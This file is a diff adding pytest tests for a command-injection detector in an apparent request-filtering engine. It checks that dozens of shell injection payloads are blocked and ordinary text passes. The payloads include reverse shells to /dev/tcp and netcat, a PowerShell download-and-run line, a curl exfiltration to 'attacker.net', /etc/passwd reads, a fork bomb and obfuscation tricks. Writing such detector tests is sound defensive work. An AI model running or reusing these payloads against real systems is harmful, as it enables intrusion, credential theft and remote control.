@@ -1,0 +1,93 @@
+"""OS command injection detector: attacks by structure, prose and URLs pass."""
+from __future__ import annotations
+
+import time
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from extauthz.decode import Input
+from extauthz.detect.cmdi import CommandInjection, assess
+from extauthz.detect.prefilter import Prefilter
+from extauthz.finding import Severity
+
+DETECTOR = CommandInjection()
+PREFILTER = Prefilter([DETECTOR])
+
+
+def verdict(value: str, kind: str = "query"):
+    """What the engine would do: the trigger must fire before the detector looks."""
+    if not PREFILTER.candidates(value):
+        return None
+    return assess(value, kind)
+
+
+def blocked(value: str, kind: str = "query") -> bool:
+    v = verdict(value, kind)
+    return v is not None and v.severity >= Severity.HIGH
+
+
+@pytest.mark.parametrize("value", [
+    "a;id", ";id;", "| id", "& id", "a);/usr/bin/id|", "`id`", "$(whoami)", "x && cat /etc/passwd",
+    "www.google.com;cat /etc/${a}passwd", "cat /etc/passwd", "/bin/ls -al", "ls -l /etc/passwd",
+    "ping -n 30 127.0.0.1", "& ping -i 30 127.0.0.1 &", " dir c:/", "\n/bin/cat /etc/passwd",
+    "c'a't /e't'c/pa's's'wd", "c$@at /et$@c/pas$@swd", "cat${IFS}/etc/passwd", "/???/c?t /e??/p??swd",
+    "{cat,/etc/passwd}", "w^h^o^a^m^i", "\\ls", "pi$()ng 127.0.0.1", "'i'fconfig",
+    "' ; /bin/sleep 31 ;", "\" | id", "test@example.org\"|bcdboot %SYSTEMROOT%\\win.ini",
+    "a=curl&&b=`whoami`&&$a attacker.net/$b", "a=/etc&&b=/passwd&&c=cat&&$c $a$b", "|$u wget test",
+    "echo dW5hbWUgLWE=|base64 -d|sh", "time sh -c whoami", "nohup whoami | sh", "sh -i >& /dev/tcp/10.0.0.1/4242 0>&1",
+    "nc 10.0.0.1 4444 -e /bin/sh", "exec 5<>/dev/tcp/8.8.8.8/80", "${SHELL} -c \"echo hi\"",
+    "alias eennvv=env&eennvv whoami", "for /f \"delims=\" %i in ('cmd /c dir') do echo %i",
+    "IF EXIST C:\\pagefile.sys CMD", "if /i a==b foo", "Invoke-WebRequest http://example.com/x.ps1",
+    ";iex (iwr http://10.0.10.10:8000/x.ps1)", "powershell C:\\windows\\system32\\notepad.exe",
+    ":(){ :|:& };:", "/etc/pas[s]wd", "cd /;cd etc;comm passwd passwd", "whoami",
+])
+def test_attacks_block(value):
+    assert blocked(value), (value, verdict(value))
+
+
+@pytest.mark.parametrize("value", [
+    "id", "cat", "time", "running shoes", "Tom & Jerry; id", "hello; time he came", "a hero; more than",
+    "time warner", "red;$5 each", "Languages: Java | Python | Ruby", "http://x.com/?a=1&b=2",
+    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
+    "Mozilla/5.0 (compatible; Embedly/0.2; snap; +http://support.embed.ly/)",
+    "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", "en-US,en;q=0.9,de;q=0.7",
+    "Some text (in brackets).", "Go to store.\nAt the store, shop.", "don't stop me now",
+    "Rock & Roll; find more | sort by price", "O'Neil's cat", "Ihre kleine Schwester; man gönnt sie sich.",
+    "Mi szép, mi édes azt szeretni; mi szép az", "please call (or email) me", "sessionid=abc; theme=dark",
+    "Del Ángel Kercadó", "ar$a", "Is this a test? What do you think?", "50% off; 20% more",
+    "The pizza vendor was known by the alias \"pineapple\" online.", "if not defined, use the default",
+])
+def test_benign_passes(value):
+    assert not blocked(value), (value, verdict(value))
+
+
+def test_path_kind_needs_a_separator():
+    assert not blocked("/usr/bin/id", kind="path")
+    assert blocked("/x;id", kind="path")
+
+
+def test_finding_shape():
+    inp = Input("query", "host", "example.com;cat /etc/passwd", ("percent",))
+    (f,) = DETECTOR.scan_input(inp)
+    assert f.cls == "rce" and f.rule.startswith("cmdi.") and f.severity >= Severity.HIGH
+    assert f.location == "query:host" and f.chain == ("percent",) and "cat" in f.excerpt
+
+
+def test_reverse_shell_is_critical():
+    assert assess("bash -c 'sh -i >& /dev/tcp/1.2.3.4/1 0>&1'").rule == "cmdi.reverse-shell"
+
+
+@given(st.text(alphabet=st.sampled_from(list("ab cid;|&$(){}`'\"\\<>=*?/-\nls")), max_size=200))
+@settings(max_examples=300, deadline=None)
+def test_property_assess_never_raises(value):
+    assess(value)
+    assess(value, "header")
+
+
+def test_hostile_sizes_are_bounded():
+    for v in ["a;" * 4000, "'" * 8000, "$(" * 4000, "c'a't " * 1300, "{a,b}" * 1600, "/???/" * 1600]:
+        t0 = time.perf_counter()
+        assess(v)
+        assert time.perf_counter() - t0 < 0.5, v[:12]
